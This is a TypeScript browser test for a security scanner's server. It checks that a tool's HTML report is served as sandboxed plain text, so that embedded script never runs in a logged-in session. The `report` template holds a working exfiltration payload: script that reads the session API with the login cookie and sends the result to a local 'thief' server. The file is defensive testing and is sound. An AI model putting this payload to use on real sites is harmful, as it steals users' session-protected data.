/**
 * A tool's HTML report opened from the results view, in headless Chromium logged in to the server:
 * its script would read the API with the login cookie and send what it read away. Served as plain
 * text in a sandbox, it never runs: no request leaves the page, and the API is never read from it.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { CHROMIUM, launchChromium } from '../helpers/browser.ts';
import { addTarget, configure, queue, script, scriptDir, toolPlugin, waitForOutput, writePluginFile } from '../helpers/engine.ts';
import { startServer, tempDir, useToken, type TestServer } from '../helpers/server.ts';

const missing = !existsSync(CHROMIUM);
const skip = missing && !process.env.CI;
if (skip) console.warn(`\n!! SKIPPING the output files browser test: ${CHROMIUM} is missing (apt-get install chromium).\n`);

const CODE = 'USR-HTML-001';
const TOKEN = 'html-report-token-0123456789abcdef0123456789';

let server: TestServer;
let thief: Server;
let stolen: string[] = [];
let browser: Browser | undefined;
let reportUrl: string;

/** The report a hostile target could make a tool write: run, it reads the API and sends it to the thief. */
const report = (thiefUrl: string) => `<!doctype html><html><head><title>scan report</title></head><body><h1>Report</h1>
<script>
document.title = 'ran';
new Image().src = '${thiefUrl}/ran';
fetch('/api/v1/sessions/', { credentials: 'include' }).then((r) => r.text()).then((t) => { new Image().src = '${thiefUrl}/leak?d=' + encodeURIComponent(t); });
</script></body></html>`;

before(async () => {
  if (skip) return;
  thief = createServer((req, res) => {
    stolen.push(req.url ?? '');
    res.end();
  });
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
  const thiefUrl = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
  const dataDir = await tempDir();
  await writePluginFile(dataDir, 'html.json', { test_groups: [{ code: CODE }], plugins: [toolPlugin(CODE, 'TOOL_WAFW00F', ['{output_dir}'])] });
  server = await startServer({ dataDir, workers: 1, token: TOKEN });
  useToken(server.port, TOKEN);
  const tools = await scriptDir();
  const html = report(thiefUrl).replace(/'/g, `'\\''`);
  await configure(server, { TOOL_WAFW00F: await script(tools, 'report.sh', `mkdir -p "$1/report" && printf '%s' '${html}' > "$1/report/index.html"`) });
  const id = await addTarget(server, 'http://127.0.0.1:1/');
  await queue(server, { id: String(id), group: 'web', type: 'active', code: CODE });
  const out = await waitForOutput(server, id, `active@${CODE}`);
  assert.equal(out.status, 'Successful', JSON.stringify(out));
  reportUrl = `${server.url}/api/v1/targets/${id}/poutput/web/active/${CODE}/files/report/index.html`;
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  thief?.close();
  await server?.close();
});

test('a logged-in browser opens a tool\'s HTML report: shown as text, its script never runs, nothing read from the API nor sent away', { skip }, async () => {
  const context = await browser!.newContext();
  try {
    const app = await context.newPage();
    await app.goto(`${server.url}/?token=${TOKEN}`);
    await app.getByText('default session').first().waitFor();
    // the cookie works: a script in this origin could read the API
    assert.equal(await app.evaluate(() => fetch('/api/v1/sessions/').then((r) => r.status)), 200);

    stolen = [];
    const page = await context.newPage();
    const requests: string[] = [];
    page.on('request', (req) => requests.push(req.url()));
    const response = await page.goto(reportUrl);
    assert.equal(response!.status(), 200);
    await page.waitForTimeout(1000);
    assert.equal(await page.evaluate(() => document.contentType), 'text/plain');
    assert.notEqual(await page.title(), 'ran');
    assert.match((await page.locator('body').innerText()), /<script>/, 'the source is shown');
    assert.deepEqual(requests, [reportUrl], 'the page asked for nothing more');
    assert.deepEqual(stolen, [], 'nothing reached the thief');
    // the response itself says so, whatever a browser would sniff
    const headers = response!.headers();
    assert.equal(headers['content-security-policy'], "sandbox; default-src 'none'");
    assert.equal(headers['x-content-type-options'], 'nosniff');

    // asked as a download: saved, never shown
    const downloading = page.waitForEvent('download');
    await page.goto(`${reportUrl}?download=true`).catch(() => {});
    const download = await downloading;
    assert.equal(download.suggestedFilename(), 'index.html');
    await page.waitForTimeout(500);
    assert.deepEqual(stolen, []);
  } finally {
    await context.close();
  }
});
